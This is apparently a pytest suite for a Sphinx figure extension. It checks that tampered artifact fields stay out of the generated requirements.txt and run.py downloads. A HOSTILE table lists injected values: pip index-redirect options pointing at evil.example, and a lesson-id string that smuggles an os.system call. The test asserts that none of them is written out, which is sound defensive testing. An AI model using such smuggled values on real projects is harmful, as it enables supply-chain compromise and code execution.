"""The "Reproduce this figure" downloads: what an artifact may put into them, and whether a reader
who follows the page's instructions gets a script that runs.

Real Sphinx builds: of ``tests/roots/test-snapshot`` with its committed store (cache-only, nothing
executes) for hostile artifacts, and of a small NumPy project for the instructions.
"""

from __future__ import annotations

import html as html_lib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from conftest import ROOTS, STORE, Build, copy_root, directive_lines, run_sphinx, store_dir, warning_records, write

pytestmark = pytest.mark.sphinx


def _committed(kind: str) -> str:
    """The content hash of the snapshot root's one committed artifact of ``kind`` (read, not written
    here: it changes whenever the graph capture's version does)."""
    found = [path.stem for path in sorted((ROOTS / "test-snapshot" / STORE).glob("*.json"))
             if json.loads(path.read_text("utf-8"))["data"]["kind"] == kind]
    assert len(found) == 1, found
    return found[0]


GRAPH = _committed("graph")  # tv-graph, PyTorch, models/tiny.py
HEATMAP = _committed("heatmap")  # tv-heatmap, NumPy, inline code

#: (artifact, field path, hostile value): unhashed fields that reach requirements.txt or run.py
HOSTILE: dict[str, tuple[str, tuple[str, ...], str]] = {
    "numpy-version": (HEATMAP, ("environment", "numpy"), "2.4.6\n--extra-index-url https://evil.example/simple"),
    "torch-version": (GRAPH, ("environment", "torch"), "2.13.0 --index-url=https://evil.example/simple"),
    "torch-option": (GRAPH, ("environment", "torch"), "--extra-index-url=https://evil.example/simple"),
    "python-version": (GRAPH, ("environment", "python"), "3.11.7)\n--trusted-host evil.example\n#"),
    "lesson-id": (GRAPH, ("lessonId",), 'x"""; __import__("os").system("touch pwned"); """'),
}


def _set(document: dict[str, Any], path: tuple[str, ...], value: str) -> None:
    for step in path[:-1]:
        document = document[step]
    document[path[-1]] = value


def downloads_folder(built: Build, content_hash: str) -> Path:
    return built.outdir / "_tensorviz" / content_hash[:16]


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_committed_artifact_gets_no_downloads(tmp_path: Path, case: str) -> None:
    """An unhashed field (a version, the lesson id) that is not of its form: a located store warning
    naming it, the figure still drawn, and no file of its downloads written at all."""
    content_hash, path, value = HOSTILE[case]
    src = copy_root("snapshot", tmp_path / "src", with_store=True)
    stored = store_dir(src) / f"{content_hash}.json"
    document = json.loads(stored.read_text("utf-8"))
    _set(document, path, value)
    write(stored, json.dumps(document, indent=2, ensure_ascii=False) + "\n")

    built = run_sphinx(src)
    assert built.statuscode == 0 and "Traceback" not in built.status + built.warnings, built.warnings
    records = built.tensorviz_warnings()
    directive = "tv-graph" if content_hash == GRAPH else "tv-heatmap"
    page = "lesson" if content_hash == GRAPH else "index"
    (line,) = directive_lines(src / f"{page}.md", directive)
    assert len(records) == 1, records
    assert records[0].startswith(f"{src / page}.md:{line}: WARNING: {directive}: stored artifact {content_hash[:12]}: "
                                 f"its {'.'.join(path)} "), records
    assert records[0].rstrip().endswith("[tensorviz.store]"), records
    assert not downloads_folder(built, content_hash).exists()
    other = GRAPH if content_hash == HEATMAP else HEATMAP
    assert (downloads_folder(built, other) / "run.py").is_file()  # the other figure keeps its downloads
    html = built.html(page)
    assert "<svg" in html and f"_tensorviz/{content_hash[:16]}/" not in html
    written = "\n".join(p.read_text("utf-8", "replace") for p in (built.outdir / "_tensorviz").rglob("*")
                        if p.is_file() and p.suffix in (".txt", ".py"))
    assert "evil.example" not in written and "pwned" not in written
    assert not [r for r in warning_records(built.warnings) if "[tensorviz." not in r], built.warnings


# ------------------------------------------------------------------------------------------------
# issue 24, point 9: a reader who does what the page says gets a script that runs
# ------------------------------------------------------------------------------------------------
CONF = '''\
project = "downloads"
extensions = ["myst_parser", "sphinx_tensorviz"]
exclude_patterns = ["_build", "tensorviz_artifacts"]
tensorviz_workers = 1
tensorviz_timeout = 60
'''
PAGE = """\
# A figure from a model file

```{tv-heatmap}
:source: models/mlp.py
:function: compute
:inputs: {n: 3}
:seed: 7
:title: Scaled noise
```
"""
MLP = """\
import numpy as np

from models.scale import FACTOR  # a project module beside it: run.py needs the folders kept


def compute(n, seed):
    return FACTOR * np.random.default_rng(seed).normal(size=(n, n + 1))
"""


def page_commands(html: str) -> list[str]:
    """The command lines of the figure's instructions, as the page shows them."""
    found = re.findall(r'<div class="[^"]*\btv-commands\b[^"]*">.*?<pre>(.*?)</pre>', html, re.S)
    assert len(found) == 1, "the downloads give no commands to run"
    return html_lib.unescape(re.sub(r"<[^>]+>", "", found[0])).strip().splitlines()


def test_the_page_s_instructions_run_the_figure_again(tmp_path: Path) -> None:
    """Save the archive the page links, run the page's commands as written (with this venv's
    ``python`` first on PATH), and run.py recomputes the figure within its dtype's tolerance."""
    src = tmp_path / "src"
    for name, text in {"conf.py": CONF, "index.md": "# Course\n\n```{toctree}\npage\n```\n", "page.md": PAGE,
                       "models/mlp.py": MLP, "models/scale.py": "FACTOR = 2.5\n"}.items():
        (src / name).parent.mkdir(parents=True, exist_ok=True)
        (src / name).write_text(text, "utf-8")
    built = run_sphinx(src)
    assert built.statuscode == 0 and built.tensorviz_warnings() == [], built.warnings
    html = built.html("page")
    links = re.findall(r'href="(_tensorviz/[0-9a-f]{16}/reproduce-[0-9a-f]{16}\.zip)"', html)
    assert len(links) == 1, "the page links no archive"
    saved = tmp_path / "saved"  # a reader's downloads folder: only what they saved
    saved.mkdir()
    shutil.copy2(built.outdir / links[0], saved)
    commands = page_commands(html)
    assert any("run.py" in line for line in commands), commands
    # pip checks the pins against this venv; --no-index keeps it from changing it or reaching an index
    script = "\n".join(f"{line} --no-index" if " pip install " in f" {line} " else line for line in commands)
    done = subprocess.run(["bash", "-e", "-c", script], cwd=saved, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"})
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["arrays"]["values"]["ok"] and report["arrays"]["values"]["dtype"] == "float64", report
    stored = json.loads(next(store_dir(src).glob("*.json")).read_text("utf-8"))["data"]["values"]
    assert len(report["reproduced"]["values"]) == len(stored) == 3


def test_a_lesson_id_the_author_never_wrote_never_costs_the_figure_its_downloads(tmp_path: Path) -> None:
    """The default lesson id is the page's name, and a Sphinx page may be called ``q&a.md`` or
    ``what's new.md``: the build used to record that name, then refuse its own artifact's downloads
    (a ``tensorviz.store`` warning on every build, a failed ``-W`` build) although the author wrote
    nothing wrong. The recorded id now has the form downloads accept. A ``:lesson:`` the author
    writes that is not of that form is an option error where it is written, not a store warning later."""
    from hostile_util import heatmap_page, make_project

    code = "import numpy as np\nresult = np.eye(2)"
    src = make_project(tmp_path / "src", {"q&a": heatmap_page(code, "Questions"),
                                          "what's new": heatmap_page(code + " * 2", "News"),
                                          "named": heatmap_page(code + " * 3", "Named", ':lesson: Q&A "draft"')})
    built = run_sphinx(src)
    assert built.statuscode == 0, built.warnings
    records = built.tensorviz_warnings()
    (line,) = directive_lines(src / "named.md", "tv-heatmap")
    assert len(records) == 1 and records[0].startswith(f"{src / 'named.md'}:{line}: WARNING: tv-heatmap: :lesson:"), \
        records
    assert records[0].rstrip().endswith("[tensorviz.option]"), records
    for page in ("q&a", "what's new"):
        html = (built.outdir / f"{page}.html").read_text("utf-8")
        assert "Reproduce this figure" in html and "run.py" in html, page
